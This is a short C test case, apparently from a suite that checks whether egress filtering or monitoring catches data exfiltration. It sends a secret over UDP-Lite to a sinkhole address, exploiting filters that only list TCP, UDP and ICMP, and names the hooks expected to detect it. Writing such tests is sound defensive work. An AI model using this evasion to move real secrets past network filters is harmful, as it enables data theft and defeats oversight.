// SPDX-License-Identifier: Apache-2.0
/*
 * Trick: Sends a secret by UDP-Lite, a protocol of its own beside UDP.
 * Known from: filters that list TCP, UDP and ICMP and pass the rest.
 * First: sendto at entry and exit
 * Second: the cgroup hook's copy of the address; the sinkhole's record of the packet
 */
#include "trick.h"

int main(void)
{
	struct sockaddr_in to = sink(9999);
	int fd = socket(AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE);

	if (fd < 0)
		blocked();
	if (sendto(fd, secret(), strlen(secret()), 0, (void *)&to, sizeof(to)) < 0)
		err(1, "sendto");
	performed();
}
